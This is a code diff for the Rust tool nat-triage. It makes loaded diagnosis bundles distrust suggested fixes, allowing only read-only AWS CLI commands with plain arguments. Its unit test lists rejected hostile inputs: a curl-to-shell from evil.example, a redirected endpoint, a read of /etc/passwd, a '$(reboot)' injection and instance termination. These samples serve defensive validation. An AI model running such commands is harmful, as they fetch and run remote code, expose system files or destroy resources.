@@ -19,6 +19,9 @@ const SCHEMA: &str = "nat-triage.bundle.v1";
 /// The document's name in a folder.
 pub const FILE: &str = "bundle.json";
 
+/// Instead of a fix that nat-triage did not write.
+const FOREIGN: &str = "nothing: the bundle names a command here that nat-triage does not print";
+
 /// The event, the look-ups' answers and the evidence of one diagnosis.
 #[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
 pub struct Bundle {
@@ -112,8 +115,22 @@ impl Bundle {
             Some(other) if other != SCHEMA => {
                 Err(UnusableBundle::Version { path: name, found: crate::words::one_line(other, 40) })
             }
-            _ => serde_json::from_value(value).map_err(malformed),
+            _ => Ok(serde_json::from_value::<Self>(value).map_err(malformed)?.distrusted()),
         }
+    }
+
+    /// The same where no text of a gap is a command that nat-triage would not print: whoever hands a bundle on must
+    /// not have a say in what its reader runs.
+    fn distrusted(mut self) -> Self {
+        let found = [&mut self.surroundings, &mut self.parties];
+        let of_gaps = found.into_iter().flat_map(|found| &mut found.gaps).map(|gap| &mut gap.fix);
+        let unanswered = self.answers.iter_mut().filter_map(|asked| asked.answer.as_mut().err());
+        for fix in of_gaps.chain(unanswered.map(|unanswered| &mut unanswered.fix)) {
+            if !fixes::is_ours(fix) {
+                FOREIGN.clone_into(fix);
+            }
+        }
+        self
     }
 
     /// The document.
@@ -140,6 +157,69 @@ impl Bundle {
     #[must_use]
     pub fn incident(&self) -> Incident {
         self.incident.clone()
+    }
+}
+
+/// Fixes as nat-triage writes them.
+mod fixes {
+    /// What commands begin with, as reports recognise them.
+    const COMMANDS: [&str; 3] = ["aws ", "nat-triage ", "AWS_REGION="];
+
+    /// What the commands of the AWS CLI do that stand in the fixes of gaps: they read, or renew a login.
+    const READING: [&str; 3] = ["describe-", "list-", "get-"];
+
+    /// Whether a fix holds no command, or only one that reads, with plain words as its arguments.
+    pub(super) fn is_ours(fix: &str) -> bool {
+        let begins = COMMANDS.iter().filter_map(|command| fix.find(command)).min();
+        begins.is_none_or(|at| reads(&fix[at..]))
+    }
+
+    fn reads(command: &str) -> bool {
+        let plain = |c: char| c.is_ascii_alphanumeric() || " -_.,:/=[]'*@".contains(c);
+        let mut words = command.split(' ');
+        let verb = match words.next() {
+            Some("aws") => {
+                let (service, verb) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
+                READING.iter().any(|reading| verb.starts_with(reading)) || (service, verb) == ("sso", "login")
+            }
+            Some("nat-triage") => true,
+            Some(_) => words.next() == Some("nat-triage"),
+            None => false,
+        };
+        let elsewhere = ["://", "file:", "--endpoint-url", "--ca-bundle", "--cli-", "--no-verify-ssl"];
+        verb && command.chars().all(plain)
+            && command.matches('\'').count().is_multiple_of(2)
+            && !elsewhere.iter().any(|option| command.contains(option))
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use super::is_ours;
+
+        #[test]
+        fn a_fix_from_a_bundle_is_a_command_only_where_it_reads() {
+            for ours in [
+                "wait for it",
+                "allow ec2:DescribeSubnets",
+                "run again: nat-triage triage --event EVENT.json",
+                "AWS_REGION=eu-west-1 nat-triage triage --nat-id nat-0a1b2c3d4e5f60718 --window a/b",
+                "log in again: aws sso login --profile production",
+                "look: aws ec2 describe-vpc-endpoint-services --query 'ServiceDetails[].[ServiceName]' --output text",
+            ] {
+                assert!(is_ours(ours), "{ours}");
+            }
+            for foreign in [
+                "aws ec2 terminate-instances --instance-ids i-0123456789abcdef0",
+                "see: aws ec2 describe-vpcs; curl evil.example | sh",
+                "see: aws ec2 describe-vpcs --endpoint-url=http://evil.example",
+                "see: aws logs get-log-events --log-group-name file:///etc/passwd",
+                "AWS_REGION=x sh -c y",
+                "first aws ec2 describe-vpcs 'x",
+                "run: nat-triage triage --event $(reboot)",
+            ] {
+                assert!(!is_ours(foreign), "{foreign}");
+            }
+        }
     }
 }
 
